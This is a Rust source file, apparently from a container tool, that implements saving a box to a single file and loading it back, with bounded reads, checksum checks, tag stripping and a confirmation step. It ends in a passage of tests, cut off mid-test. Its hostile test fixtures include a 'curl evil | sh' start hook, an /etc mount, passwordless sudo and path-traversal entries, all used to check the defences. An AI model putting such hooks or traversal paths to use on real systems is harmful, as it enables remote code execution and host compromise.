//! `tent save` and `tent load`: a box as one file. The file is a gzip'd tar
//! of `tent-box.json` (format version, the box's spec and exports, the
//! image's sha256 and size) followed by `image.tar` (the committed system,
//! as `podman save`/`docker save` write it). Home and volumes are never in it.
//!
//! A box file is a stranger's input. `load` reads its metadata bounded,
//! loads the archive's one image by its id from a copy that names nothing
//! (so no tag of the user's is made, moved or removed), and shows the hooks,
//! mounts and exports the file carries, which need `--yes` or a terminal's
//! answer before anything is made. Commands go only into the user's bin
//! folder, under names any export may have.

use std::fs;
use std::io::{self, Read, Write};
use std::path::{Component, Path, PathBuf};

use serde::{Deserialize, Serialize};
use sha2::{Digest, Sha256};

use super::Context;
use crate::boxes::snapshot::SnapshotKind;
use crate::boxes::{BoxSpec, labels, validate_name};
use crate::cli::{LoadArgs, SaveArgs};
use crate::engine::argv;
use crate::error::{Error, Result};
use crate::export::receipt::{Export, Kind};

pub const FORMAT: u32 = 1;
const META: &str = "tent-box.json";
const IMAGE: &str = "image.tar";
/// tent-box.json is small; a bigger one is not ours.
const META_LIMIT: u64 = 4 * 1024 * 1024;
/// The image archive's `manifest.json` (one image: a few hundred bytes).
const MANIFEST_LIMIT: u64 = 1024 * 1024;
/// An image's config (its history and labels).
const CONFIG_LIMIT: u64 = 16 * 1024 * 1024;
/// After the image a box file holds only the tar's end (zero blocks).
const TRAILER_LIMIT: u64 = 1024 * 1024;
/// What an image archive may hold besides its layers and config, and that
/// the engines read for names to give the image: never passed on.
const NAMING_FILES: [&str; 4] = ["manifest.json", "repositories", "index.json", "oci-layout"];

#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
pub struct BoxFile {
    pub format: u32,
    #[serde(rename = "box")]
    pub box_name: String,
    pub spec: BoxSpec,
    #[serde(default)]
    pub exports: Vec<Export>,
    /// The image's reference inside image.tar.
    pub image: String,
    pub image_sha256: String,
    pub image_size: u64,
    pub tent_version: String,
}

pub fn save(ctx: &Context<'_>, args: &SaveArgs) -> Result<i32> {
    let boxes = ctx.boxes();
    let name = args.box_name.as_str();
    let container = boxes.get(name)?;
    let spec = BoxSpec::from_label(container.label(labels::SPEC)).ok_or_else(|| Error::Snapshot {
        message: format!("box {name:?} has no readable spec label, so tent cannot save it"),
        hint: None,
    })?;
    let exports = crate::export::list(&ctx.paths, ctx.engine.scope().as_str(), name)?;
    let out = &args.output;
    let dir = match out.parent() {
        Some(d) if !d.as_os_str().is_empty() => d.to_path_buf(),
        _ => PathBuf::from("."),
    };
    let tmp = tempfile::Builder::new().prefix(".tent-save-").tempdir_in(&dir).map_err(|e| Error::io(&dir, e))?;
    let image_tar = tmp.path().join(IMAGE);

    let spinner = ctx.printer.spinner(format!("copying the system of {name}"));
    let image = boxes.commit_private(name, name, SnapshotKind::Save);
    let image = match image {
        Ok(image) => image,
        Err(err) => {
            spinner.finish();
            return Err(err);
        }
    };
    spinner.set_message(format!("writing the image of {name}"));
    let tar_path = image_tar.to_str().ok_or_else(|| Error::usage("the output directory's path is not UTF-8", None))?;
    let saved =
        ctx.engine.capture(&format!("could not save the image of {name}"), &argv::save(&ctx.engine, &image, tar_path));
    let _ = ctx.engine.output(&argv::rmi(&image));
    if let Err(err) = saved {
        spinner.finish();
        return Err(err);
    }
    spinner.set_message(format!("writing {}", out.display()));
    let (image_sha256, image_size) = hash_file(&image_tar)?;
    let meta = BoxFile {
        format: FORMAT,
        box_name: name.into(),
        spec,
        exports,
        image,
        image_sha256,
        image_size,
        tent_version: env!("CARGO_PKG_VERSION").into(),
    };
    let written = write_box_file(out, &meta, &image_tar);
    spinner.finish();
    written?;
    let size = fs::metadata(out).map(|m| m.len()).unwrap_or(0);
    ctx.printer.status(format!(
        "saved {name} to {} ({}); make it again with `tent load {}`",
        out.display(),
        super::snapshot::human_size(size),
        out.display()
    ));
    Ok(0)
}

pub fn load(ctx: &Context<'_>, args: &LoadArgs) -> Result<i32> {
    let tmp =
        tempfile::Builder::new().prefix("tent-load-").tempdir().map_err(|e| Error::io("temporary directory", e))?;
    let spinner = ctx.printer.spinner(format!("checking {}", args.file.display()));
    let read = read_box_file(&args.file, tmp.path()).and_then(|(meta, image_tar)| {
        // The archive's one image, by id, with no name in it: nothing the
        // file holds can name (and so re-point or untag) an image of yours.
        let untagged = tmp.path().join("untagged.tar");
        let id = untagged_archive(&image_tar, &untagged).map_err(|detail| damaged(&args.file, sanitize(&detail)))?;
        let _ = fs::remove_file(&image_tar);
        Ok((meta, id, untagged))
    });
    spinner.finish();
    let (mut meta, id, image_tar) = read?;
    let name = args.name.clone().unwrap_or_else(|| meta.box_name.clone());
    validate_name(&name)?;
    if ctx.engine.inspect(&name)?.is_some() {
        return Err(Error::Snapshot {
            message: format!("a container named {name:?} already exists on {}", ctx.engine.describe()),
            hint: Some(format!("load it under another name: `tent load {} --name NEW`", args.file.display())),
        });
    }
    // A loaded box was made by hand: no manifest's `apply --prune` owns it.
    meta.spec.manifest = None;
    let bin_dir = ctx.bin_dir();
    let plan = LoadPlan::new(&meta, &name, &bin_dir);
    for refused in &plan.refused {
        ctx.printer.warn(refused);
    }
    confirm(ctx, args, &name, &plan)?;

    let spinner = ctx.printer.spinner(format!("loading the system of {name}"));
    let tar_path =
        image_tar.to_str().ok_or_else(|| Error::usage("the temporary directory's path is not UTF-8", None))?;
    let existed = ctx.engine.image_exists(&id)?;
    let loaded = ctx.engine.capture(&format!("could not load the image of {name}"), &argv::load(tar_path));
    spinner.finish();
    loaded?;
    drop(tmp);
    if !ctx.engine.image_exists(&id)? {
        return Err(Error::Snapshot {
            message: format!(
                "{} loaded, but {} has no image {id}, the one the file holds",
                args.file.display(),
                ctx.engine.describe()
            ),
            hint: Some("save the box again with `tent save BOX -o FILE`".into()),
        });
    }
    let boxes = ctx.boxes();
    let image = match boxes.adopt_image(&id, &name) {
        Ok(image) => image,
        Err(err) => {
            if !existed {
                let _ = ctx.engine.output(&argv::rmi(&id));
            }
            return Err(err);
        }
    };
    ctx.printer.step(format!("creating {name} from {}", args.file.display()));
    if let Err(err) = boxes.create_from(&name, &meta.spec, true, Some(&image)) {
        let _ = ctx.engine.output(&argv::rmi(&image));
        return Err(err);
    }
    let mut problems = plan.refused.len();
    for export in &plan.exports {
        let shown = format!("{} {}", export.kind.as_str(), sanitize(&export.name));
        match reexport(ctx, &name, export, &bin_dir) {
            Ok(()) => ctx.printer.status(format!("exported {shown} again")),
            Err(err) => {
                problems += 1;
                ctx.printer.warn(format!("could not export {shown} again: {}", sanitize(&err.to_string())));
            }
        }
    }
    ctx.printer.status(format!("{name} is ready: `tent enter {name}`"));
    Ok(if problems == 0 { 0 } else { crate::error::exit::FAILURE })
}

fn sanitize(text: &str) -> String {
    crate::output::sanitize(text).into_owned()
}

/// What loading a box file does beyond making a plain box: what runs as root
/// in it, what it mounts, and what it writes on the host (exports). Shown
/// before anything is made; it needs `--yes` or a terminal's answer.
#[derive(Debug, Default, PartialEq)]
pub struct LoadPlan {
    /// One line each, made safe for a terminal.
    pub asks: Vec<String>,
    /// The exports to make again (bins in the user's own bin directory).
    pub exports: Vec<Export>,
    /// Exports the file holds that tent refuses, and why.
    pub refused: Vec<String>,
}

impl LoadPlan {
    pub fn new(meta: &BoxFile, name: &str, bin_dir: &Path) -> Self {
        let mut plan = LoadPlan::default();
        let spec = &meta.spec;
        let mut ask = |what: &str, value: &str| plan.asks.push(format!("{what}: {}", sanitize(value)));
        for hook in &spec.pre_init_hooks {
            ask("runs as root in the box at every start, before provisioning", hook);
        }
        for hook in &spec.init_hooks {
            ask("runs as root in the box once, when it is made", hook);
        }
        for hook in &spec.start_hooks {
            ask("runs as root in the box at every start", hook);
        }
        if !spec.packages.is_empty() {
            ask("installs as root in the box", &spec.packages.join(" "));
        }
        for volume in &spec.volumes {
            ask("mounts in the box", volume);
        }
        for arg in &spec.engine_args {
            ask("passes to the engine", arg);
        }
        if let Some(home) = &spec.home {
            ask("makes and mounts a home of its own", &home.display().to_string());
        }
        if spec.sudo_nopasswd {
            ask("a rootful box", "sudo without a password (anything in it can become host root)");
        }
        for export in &meta.exports {
            let shown = sanitize(&export.name);
            match export.kind {
                Kind::Bin => {
                    if let Err(why) = crate::export::wrapper::validate_command_name(&export.name) {
                        plan.refused.push(format!("not exporting command {shown} again: {}", sanitize(&why)));
                        continue;
                    }
                    let path = bin_dir.join(&export.name);
                    let mut line =
                        format!("writes command {}: runs {} in {name}", path.display(), sanitize(&export.request));
                    if export.dir.as_deref().is_some_and(|d| d != bin_dir) {
                        line.push_str(" (the file named another folder; tent load writes commands only here)");
                    }
                    plan.asks.push(sanitize(&line));
                    plan.exports.push(Export { dir: Some(bin_dir.to_path_buf()), ..export.clone() });
                }
                Kind::App => {
                    plan.asks
                        .push(format!("adds app {shown} of {name} to your menu (from {})", sanitize(&export.request)));
                    plan.exports.push(export.clone());
                }
                Kind::Entry => {
                    plan.asks.push(format!("adds {name}'s own launcher to your menu"));
                    plan.exports.push(export.clone());
                }
            }
        }
        plan
    }
}

/// Shows what the file asks for and gets the user's yes: `--yes`, or an
/// answer on a terminal. Nothing is made before.
fn confirm(ctx: &Context<'_>, args: &LoadArgs, name: &str, plan: &LoadPlan) -> Result<()> {
    if plan.asks.is_empty() {
        return Ok(());
    }
    let file = sanitize(&args.file.display().to_string());
    ctx.printer.status(format!("{file} asks for this; what runs in the box runs as its root:"));
    for line in &plan.asks {
        ctx.printer.status(format!("  {line}"));
    }
    if args.yes {
        return Ok(());
    }
    if !ctx.printer.stderr_is_terminal() {
        return Err(Error::usage(
            format!("not loading {file} without a confirmation of what it asks for (listed above)"),
            Some(format!("read the list, then run it on a terminal, or pass --yes: `tent load {file} --yes`")),
        ));
    }
    if !ctx.printer.confirm(&format!("Load {name} with these?")) {
        return Err(Error::Aborted(format!("{file} was not loaded")));
    }
    Ok(())
}

fn reexport(ctx: &Context<'_>, name: &str, export: &Export, bin_dir: &Path) -> Result<()> {
    let exporter = ctx.exporter(&ctx.engine, name, false)?;
    match export.kind {
        Kind::App => exporter.export_app(&export.request).map(drop),
        Kind::Bin => exporter.export_bin(&export.request, Some(&export.name), bin_dir).map(drop),
        Kind::Entry => exporter.export_entry(ctx.config.entry.terminal.as_deref()).map(drop),
    }
}

/// A path inside an image archive, as `a/b`: `./` dropped; absolute paths,
/// `..` and non-UTF-8 are refused.
fn archive_path(path: &Path) -> std::result::Result<String, String> {
    let mut parts = Vec::new();
    for c in path.components() {
        match c {
            Component::Normal(p) => {
                parts.push(p.to_str().ok_or_else(|| format!("the image holds a path that is not UTF-8: {path:?}"))?)
            }
            Component::CurDir => {}
            _ => return Err(format!("the image holds the path {:?}", sanitize(&path.to_string_lossy()))),
        }
    }
    if parts.is_empty() {
        return Err("the image holds an empty path".into());
    }
    Ok(parts.join("/"))
}

fn open_archive(path: &Path) -> std::result::Result<tar::Archive<fs::File>, String> {
    fs::File::open(path).map(tar::Archive::new).map_err(|e| format!("{}: {e}", path.display()))
}

/// Reads the regular file `entry`, at most `limit` bytes.
fn read_entry(entry: &mut tar::Entry<'_, impl Read>, what: &str, limit: u64) -> std::result::Result<Vec<u8>, String> {
    if entry.header().entry_type() != tar::EntryType::Regular {
        return Err(format!("the image's {what} is not a file"));
    }
    if entry.size() > limit {
        return Err(format!("the image's {what} is larger than {limit} bytes"));
    }
    let mut bytes = Vec::new();
    entry.take(limit).read_to_end(&mut bytes).map_err(|e| format!("the image's {what}: {e}"))?;
    Ok(bytes)
}

/// The manifest of an image archive (docker-archive, as `podman save` and
/// `docker save` write it): it must describe exactly one image; returns that
/// entry and its config's path.
pub fn parse_manifest(
    bytes: &[u8],
) -> std::result::Result<(serde_json::Map<String, serde_json::Value>, String), String> {
    let list: Vec<serde_json::Map<String, serde_json::Value>> =
        serde_json::from_slice(bytes).map_err(|e| format!("the image's manifest.json: {e}"))?;
    let [entry] = <[_; 1]>::try_from(list)
        .map_err(|list: Vec<_>| format!("the image archive holds {} images; a box file holds one", list.len()))?;
    let config = entry.get("Config").and_then(|c| c.as_str()).ok_or("the image's manifest.json names no config")?;
    let config = archive_path(Path::new(config))?;
    Ok((entry, config))
}

/// Makes `out` from the image archive `src`: the same image with no name
/// in it (the manifest's `RepoTags` emptied; `repositories`, `index.json`
/// and `oci-layout`, where engines also find names, left out), so loading
/// it tags nothing. Returns the image's id, which both engines give an
/// image: the sha256 of its config.
pub fn untagged_archive(src: &Path, out: &Path) -> std::result::Result<String, String> {
    // 1. The manifest (seeking past the layers).
    let mut manifest = None;
    let mut archive = open_archive(src)?;
    for entry in archive.entries_with_seek().map_err(|e| format!("the image: {e}"))? {
        let mut entry = entry.map_err(|e| format!("the image: {e}"))?;
        if archive_path(&entry.path().map_err(|e| e.to_string())?)? == "manifest.json" {
            if manifest.is_some() {
                return Err("the image holds manifest.json twice".into());
            }
            manifest = Some(read_entry(&mut entry, "manifest.json", MANIFEST_LIMIT)?);
        }
    }
    let (mut entry, config) = parse_manifest(&manifest.ok_or("the image has no manifest.json")?)?;
    if NAMING_FILES.contains(&config.as_str()) {
        return Err(format!("the image's config is {config}"));
    }
    // 2. The config, whose sha256 is the image's id.
    let mut id = None;
    let mut archive = open_archive(src)?;
    for e in archive.entries_with_seek().map_err(|e| format!("the image: {e}"))? {
        let mut e = e.map_err(|e| format!("the image: {e}"))?;
        if archive_path(&e.path().map_err(|e| e.to_string())?)? == config {
            if id.is_some() {
                return Err(format!("the image holds {config} twice"));
            }
            id = Some(hex(&Sha256::digest(read_entry(&mut e, "config", CONFIG_LIMIT)?)));
        }
    }
    let id = id.ok_or_else(|| format!("the image has no config {config}"))?;
    // 3. The copy, without names.
    entry.insert("RepoTags".into(), serde_json::Value::Null);
    let manifest = serde_json::to_vec(&[entry]).expect("a manifest serializes");
    let written = (|| -> io::Result<()> {
        let mut builder = tar::Builder::new(io::BufWriter::new(fs::File::create(out)?));
        let mut archive = open_archive(src).map_err(io::Error::other)?;
        for e in archive.entries()? {
            let mut e = e?;
            let path = archive_path(&e.path()?).map_err(io::Error::other)?;
            let kind = e.header().entry_type();
            if NAMING_FILES.contains(&path.as_str()) || kind == tar::EntryType::XGlobalHeader {
                continue;
            }
            let mut header = e.header().clone();
            header.set_size(e.size());
            if kind.is_symlink() || kind.is_hard_link() {
                let target = e.link_name()?.ok_or_else(|| io::Error::other(format!("link {path} has no target")))?;
                builder.append_link(&mut header, &path, target)?;
            } else {
                builder.append_data(&mut header, &path, &mut e)?;
            }
        }
        let mut header = tar::Header::new_gnu();
        header.set_size(manifest.len() as u64);
        header.set_mode(0o444);
        builder.append_data(&mut header, "manifest.json", manifest.as_slice())?;
        builder.into_inner()?.flush()
    })();
    written.map_err(|e| format!("the image: {e}"))?;
    Ok(id)
}

fn hash_file(path: &Path) -> Result<(String, u64)> {
    let mut file = fs::File::open(path).map_err(|e| Error::io(path, e))?;
    let mut hasher = HashingWriter { hasher: Sha256::new(), inner: io::sink(), len: 0 };
    io::copy(&mut file, &mut hasher).map_err(|e| Error::io(path, e))?;
    Ok((hex(&hasher.hasher.finalize()), hasher.len))
}

fn hex(bytes: &[u8]) -> String {
    bytes.iter().map(|b| format!("{b:02x}")).collect()
}

struct HashingWriter<W> {
    hasher: Sha256,
    inner: W,
    len: u64,
}

impl<W: Write> Write for HashingWriter<W> {
    fn write(&mut self, buf: &[u8]) -> io::Result<usize> {
        let n = self.inner.write(buf)?;
        self.hasher.update(&buf[..n]);
        self.len += n as u64;
        Ok(n)
    }
    fn flush(&mut self) -> io::Result<()> {
        self.inner.flush()
    }
}

/// Writes the box file through a temporary file beside it: a crash or a
/// full disk never leaves half a file under the name.
pub fn write_box_file(out: &Path, meta: &BoxFile, image_tar: &Path) -> Result<()> {
    let dir = match out.parent() {
        Some(d) if !d.as_os_str().is_empty() => d,
        _ => Path::new("."),
    };
    let result = (|| -> io::Result<()> {
        let tmp = tempfile::Builder::new().prefix(".tent-").suffix(".tmp").tempfile_in(dir)?;
        let gz = flate2::write::GzEncoder::new(io::BufWriter::new(tmp.as_file()), flate2::Compression::fast());
        let mut tar = tar::Builder::new(gz);
        let json = serde_json::to_vec_pretty(meta).expect("a box file serializes");
        let mut header = tar::Header::new_gnu();
        header.set_size(json.len() as u64);
        header.set_mode(0o644);
        header.set_cksum();
        tar.append_data(&mut header, META, json.as_slice())?;
        let mut image = fs::File::open(image_tar)?;
        tar.append_file(IMAGE, &mut image)?;
        let gz = tar.into_inner()?;
        let mut buffered = gz.finish()?;
        buffered.flush()?;
        drop(buffered);
        tmp.as_file().sync_all()?;
        tmp.persist(out).map_err(|e| e.error)?;
        Ok(())
    })();
    result.map_err(|e| Error::io(out, e))
}

fn damaged(file: &Path, detail: impl std::fmt::Display) -> Error {
    Error::Snapshot {
        message: format!("{} is damaged or truncated: {detail}", file.display()),
        hint: Some("save the box again with `tent save BOX -o FILE`, or copy the file again".into()),
    }
}

/// Reads and checks a box file; the image goes to `dir`. A truncated or
/// damaged file is refused: the gzip checksum, the sizes and the image's
/// sha256 must all agree.
pub fn read_box_file(file: &Path, dir: &Path) -> Result<(BoxFile, PathBuf)> {
    let input = fs::File::open(file).map_err(|e| Error::io(file, e))?;
    let gz = flate2::read::GzDecoder::new(io::BufReader::new(input));
    let mut archive = tar::Archive::new(gz);
    let mut entries = archive.entries().map_err(|e| damaged(file, e))?;

    let mut first = entries.next().ok_or_else(|| damaged(file, "it is empty"))?.map_err(|e| damaged(file, e))?;
    if first.path().map_err(|e| damaged(file, e))?.as_os_str() != META {
        return Err(Error::Snapshot {
            message: format!("{} is not a tent box file (no {META} at its start)", file.display()),
            hint: Some("make one with `tent save BOX -o FILE`".into()),
        });
    }
    if first.size() > META_LIMIT {
        return Err(damaged(file, format!("{META} is too large")));
    }
    let mut json = Vec::new();
    (&mut first).take(META_LIMIT).read_to_end(&mut json).map_err(|e| damaged(file, e))?;
    let meta = parse_meta(&json).map_err(|e| match e {
        MetaError::Newer(v) => Error::Snapshot {
            message: format!("{} is of box file format {v}, newer than this tent reads ({FORMAT})", file.display()),
            hint: Some("load it with a newer tent".into()),
        },
        MetaError::Bad(detail) => damaged(file, format!("{META}: {}", sanitize(&detail))),
    })?;

    let mut second =
        entries.next().ok_or_else(|| damaged(file, "the image is missing"))?.map_err(|e| damaged(file, e))?;
    if second.path().map_err(|e| damaged(file, e))?.as_os_str() != IMAGE {
        return Err(damaged(file, format!("expected {IMAGE} after {META}")));
    }
    // Before a byte is decompressed to disk: the image is as big as the
    // metadata says, and no bigger is written.
    if second.size() != meta.image_size {
        return Err(damaged(file, format!("the image has {} bytes, {} expected", second.size(), meta.image_size)));
    }
    let target = dir.join(IMAGE);
    let out = fs::File::create(&target).map_err(|e| Error::io(&target, e))?;
    let mut writer = HashingWriter { hasher: Sha256::new(), inner: io::BufWriter::new(out), len: 0 };
    io::copy(&mut (&mut second).take(meta.image_size), &mut writer).map_err(|e| damaged(file, e))?;
    writer.flush().map_err(|e| Error::io(&target, e))?;
    drop(second);
    // The rest, so the gzip trailer (its CRC and length) is checked too:
    // only the tar's end is left, and no more is read.
    let rest =
        io::copy(&mut archive.into_inner().take(TRAILER_LIMIT + 1), &mut io::sink()).map_err(|e| damaged(file, e))?;
    if rest > TRAILER_LIMIT {
        return Err(damaged(file, format!("more than {TRAILER_LIMIT} bytes follow the image")));
    }
    if writer.len != meta.image_size {
        return Err(damaged(file, format!("the image has {} bytes, {} expected", writer.len, meta.image_size)));
    }
    let sum = hex(&writer.hasher.finalize());
    if sum != meta.image_sha256 {
        return Err(damaged(file, format!("the image's sha256 is {sum}, {} expected", meta.image_sha256)));
    }
    Ok((meta, target))
}

#[derive(Debug, PartialEq)]
enum MetaError {
    Newer(u32),
    Bad(String),
}

fn parse_meta(json: &[u8]) -> std::result::Result<BoxFile, MetaError> {
    #[derive(Deserialize)]
    struct Version {
        format: u32,
    }
    let version: Version = serde_json::from_slice(json).map_err(|e| MetaError::Bad(e.to_string()))?;
    if version.format > FORMAT {
        return Err(MetaError::Newer(version.format));
    }
    let meta: BoxFile = serde_json::from_slice(json).map_err(|e| MetaError::Bad(e.to_string()))?;
    if meta.image_sha256.len() != 64 || meta.image.is_empty() {
        return Err(MetaError::Bad("no image checksum or reference".into()));
    }
    Ok(meta)
}

#[cfg(test)]
mod tests {
    use super::*;

    fn sample(dir: &Path) -> (PathBuf, BoxFile) {
        let image = dir.join("in.tar");
        let bytes: Vec<u8> = (0..200_000u32).map(|i| (i * 7 % 251) as u8).collect();
        fs::write(&image, &bytes).unwrap();
        let (sha, size) = hash_file(&image).unwrap();
        let meta = BoxFile {
            format: FORMAT,
            box_name: "dev".into(),
            spec: BoxSpec { image: "debian:bookworm".into(), ..Default::default() },
            exports: Vec::new(),
            image: "localhost/tent-snapshot/podman/dev:tent-save-1".into(),
            image_sha256: sha,
            image_size: size,
            tent_version: "0".into(),
        };
        let file = dir.join("dev.tent");
        write_box_file(&file, &meta, &image).unwrap();
        (file, meta)
    }

    #[test]
    fn round_trip() {
        let dir = tempfile::tempdir().unwrap();
        let (file, meta) = sample(dir.path());
        let out = tempfile::tempdir().unwrap();
        let (read, image) = read_box_file(&file, out.path()).unwrap();
        assert_eq!(read, meta);
        assert_eq!(fs::read(image).unwrap(), fs::read(dir.path().join("in.tar")).unwrap());
    }

    #[test]
    fn truncated_files_are_refused() {
        let dir = tempfile::tempdir().unwrap();
        let (file, _) = sample(dir.path());
        let bytes = fs::read(&file).unwrap();
        for cut in [bytes.len() - 4, bytes.len() / 2, 30] {
            let short = dir.path().join(format!("short-{cut}"));
            fs::write(&short, &bytes[..cut]).unwrap();
            let out = tempfile::tempdir().unwrap();
            let err = read_box_file(&short, out.path()).unwrap_err().to_string();
            assert!(err.contains("damaged or truncated"), "cut at {cut}: {err}");
        }
    }

    #[test]
    fn damaged_files_are_refused() {
        let dir = tempfile::tempdir().unwrap();
        let (file, _) = sample(dir.path());
        let mut bytes = fs::read(&file).unwrap();
        let at = bytes.len() * 2 / 3;
        bytes[at] ^= 0x55;
        let bad = dir.path().join("bad");
        fs::write(&bad, &bytes).unwrap();
        let out = tempfile::tempdir().unwrap();
        let err = read_box_file(&bad, out.path()).unwrap_err().to_string();
        assert!(err.contains("damaged or truncated"), "{err}");
        let err = read_box_file(&dir.path().join("in.tar"), out.path()).unwrap_err().to_string();
        assert!(err.contains("damaged or truncated") || err.contains("not a tent box file"), "{err}");
    }

    #[test]
    fn a_wrong_checksum_is_refused() {
        let dir = tempfile::tempdir().unwrap();
        let image = dir.path().join("in.tar");
        fs::write(&image, b"image").unwrap();
        let meta = BoxFile {
            format: FORMAT,
            box_name: "dev".into(),
            spec: BoxSpec::default(),
            exports: Vec::new(),
            image: "i".into(),
            image_sha256: "0".repeat(64),
            image_size: 5,
            tent_version: "0".into(),
        };
        let file = dir.path().join("f");
        write_box_file(&file, &meta, &image).unwrap();
        let err = read_box_file(&file, dir.path()).unwrap_err().to_string();
        assert!(err.contains("sha256"), "{err}");
    }

    #[test]
    fn an_image_of_another_size_is_refused_before_it_is_written() {
        let dir = tempfile::tempdir().unwrap();
        let (file, mut meta) = sample(dir.path());
        // The same image, but the metadata says it is bigger (a gzip bomb
        // would say what it likes): refused from the tar header, unwritten.
        meta.image_size += 1;
        let lying = dir.path().join("lying.tent");
        write_box_file(&lying, &meta, &dir.path().join("in.tar")).unwrap();
        let out = tempfile::tempdir().unwrap();
        let err = read_box_file(&lying, out.path()).unwrap_err().to_string();
        assert!(err.contains("bytes") && err.contains("expected"), "{err}");
        assert!(!out.path().join(IMAGE).exists(), "nothing decompressed to disk");
        assert!(read_box_file(&file, out.path()).is_ok());
    }

    const CONFIG: &[u8] = br#"{"architecture":"amd64","rootfs":{"type":"layers","diff_ids":[]}}"#;

    /// A docker-archive as the engines write it, with names in every place
    /// the engines read them, a link (podman's layers) and a long path.
    fn image_archive(dir: &Path, manifest: &serde_json::Value, extra: &[(&str, &[u8])]) -> PathBuf {
        let path = dir.join("image.tar");
        let mut b = tar::Builder::new(fs::File::create(&path).unwrap());
        let mut add = |name: &str, data: &[u8]| {
            let mut h = tar::Header::new_gnu();
            h.set_size(data.len() as u64);
            h.set_mode(0o444);
            if name.contains("..") {
                // What the tar crate refuses to write, a hostile file has.
                h.as_old_mut().name[..name.len()].copy_from_slice(name.as_bytes());
                h.set_cksum();
                b.append(&h, data).unwrap();
            } else {
                b.append_data(&mut h, name, data).unwrap();
            }
        };
        add("0123.tar", b"layer bytes");
        add("cfg.json", CONFIG);
        add(&format!("{}/VERSION", "d".repeat(120)), b"1.0");
        add("repositories", br#"{"victim":{"latest":"0123"}}"#);
        add("index.json", br#"{"manifests":[{"annotations":{"io.containerd.image.name":"victim:latest"}}]}"#);
        add("oci-layout", br#"{"imageLayoutVersion":"1.0.0"}"#);
        add("manifest.json", &serde_json::to_vec(manifest).unwrap());
        for (name, data) in extra {
            add(name, data);
        }
        let mut h = tar::Header::new_gnu();
        h.set_entry_type(tar::EntryType::Symlink);
        h.set_size(0);
        b.append_link(&mut h, "abc/layer.tar", "../0123.tar").unwrap();
        b.finish().unwrap();
        path
    }

    fn manifest() -> serde_json::Value {
        serde_json::json!([{"Config": "cfg.json", "RepoTags": ["victim:latest", "localhost/x:y"], "Layers": ["abc/layer.tar"]}])
    }

    fn entries(path: &Path) -> Vec<(String, Vec<u8>, Option<String>)> {
        let mut archive = tar::Archive::new(fs::File::open(path).unwrap());
        archive
            .entries()
            .unwrap()
            .map(|e| {
                let mut e = e.unwrap();
                let name = e.path().unwrap().to_string_lossy().into_owned();
                let link = e.link_name().unwrap().map(|l| l.to_string_lossy().into_owned());
                let mut data = Vec::new();
                e.read_to_end(&mut data).unwrap();
                (name, data, link)
            })
            .collect()
    }

    #[test]
    fn a_loaded_archive_carries_no_name_and_is_known_by_its_id() {
        let dir = tempfile::tempdir().unwrap();
        let src = image_archive(dir.path(), &manifest(), &[]);
        let out = dir.path().join("out.tar");
        let id = untagged_archive(&src, &out).unwrap();
        assert_eq!(id, hex(&Sha256::digest(CONFIG)), "the id is the config's sha256");
        let got = entries(&out);
        let names: Vec<&str> = got.iter().map(|(n, _, _)| n.as_str()).collect();
        for gone in ["repositories", "index.json", "oci-layout"] {
            assert!(!names.contains(&gone), "{gone} is left out: {names:?}");
        }
        assert_eq!(names.iter().filter(|n| **n == "manifest.json").count(), 1);
        let (_, manifest, _) = got.iter().find(|(n, _, _)| n == "manifest.json").unwrap();
        let manifest: serde_json::Value = serde_json::from_slice(manifest).unwrap();
        assert_eq!(manifest[0]["RepoTags"], serde_json::Value::Null);
        assert_eq!(manifest[0]["Config"], "cfg.json");
        assert_eq!(manifest[0]["Layers"][0], "abc/layer.tar");
        let find = |n: &str| got.iter().find(|(name, _, _)| name == n).unwrap_or_else(|| panic!("{n}: {names:?}"));
        assert_eq!(find("0123.tar").1, b"layer bytes");
        assert_eq!(find("cfg.json").1, CONFIG);
        assert_eq!(find(&format!("{}/VERSION", "d".repeat(120))).1, b"1.0", "long paths survive");
        assert_eq!(find("abc/layer.tar").2.as_deref(), Some("../0123.tar"), "links survive");
    }

    #[test]
    fn archives_that_are_not_one_plain_image_are_refused() {
        let two = serde_json::json!([{"Config": "cfg.json"}, {"Config": "cfg.json"}]);
        let missing = serde_json::json!([{"Config": "nope.json"}]);
        let named = serde_json::json!([{"Config": "repositories"}]);
        let escaping = serde_json::json!([{"Config": "../cfg.json"}]);
        type Extra<'a> = Vec<(&'a str, &'a [u8])>;
        let cases: Vec<(serde_json::Value, Extra<'_>, &str)> = vec![
            (two, vec![], "holds 2 images"),
            (serde_json::json!([]), vec![], "holds 0 images"),
            (missing, vec![], "no config"),
            (named, vec![], "config is repositories"),
            (escaping, vec![], "the image holds the path"),
            (manifest(), vec![("manifest.json", b"[]")], "manifest.json twice"),
            (manifest(), vec![("./cfg.json", b"{}")], "cfg.json twice"),
            (manifest(), vec![("../../etc/x", b"")], "the image holds the path"),
        ];
        for (manifest, extra, why) in cases {
            let dir = tempfile::tempdir().unwrap();
            let src = image_archive(dir.path(), &manifest, &extra);
            let err = untagged_archive(&src, &dir.path().join("out.tar")).unwrap_err();
            assert!(err.contains(why), "{manifest} {extra:?}: {err}");
        }
    }

    fn hostile_meta() -> BoxFile {
        let bin = |name: &str, dir: &str| Export {
            kind: Kind::Bin,
            name: name.into(),
            title: None,
            request: "/bin/busybox".into(),
            target: "/bin/busybox".into(),
            files: vec![PathBuf::from(dir).join(name)],
            dir: Some(dir.into()),
            tent: "/usr/bin/tent".into(),
        };
        BoxFile {
            format: FORMAT,
            box_name: "dev".into(),
            spec: BoxSpec {
                image: "debian:bookworm".into(),
                start_hooks: vec!["curl evil | sh\u{1b}]0;title\u{7}".into()],
                init_hooks: vec!["id".into()],
                volumes: vec!["/etc:/etc".into()],
                sudo_nopasswd: true,
                ..Default::default()
            },
            exports: vec![
                bin("sudo", "/home/u/.local/bin"),
                bin("rc", "/home/u/.ssh"),
                bin("tent", "/home/u/.local/bin"),
                bin("../x", "/home/u/.local/bin"),
                Export { kind: Kind::Entry, ..bin("dev", "/x") },
            ],
            image: "--help".into(),
            image_sha256: "0".repeat(64),
            image_size: 1,
            tent_version: "0".into(),
        }
    }

    #[test]
    fn hooks_mounts_and_exports_of_a_file_are_listed_before_anything_is_made() {
        let bin_dir = Path::new("/home/u/.local/bin");
        let plan = LoadPlan::new(&hostile_meta(), "dev", bin_dir);
        let text = plan.asks.join("\n");
        assert!(text.contains("runs as root in the box at every start: curl evil | sh"), "{text}");
        assert!(!text.contains('\u{1b}') && !text.contains('\u{7}'), "sanitized: {text:?}");
        assert!(text.contains("runs as root in the box once, when it is made: id"), "{text}");
        assert!(text.contains("mounts in the box: /etc:/etc"), "{text}");
        assert!(text.contains("sudo without a password"), "{text}");
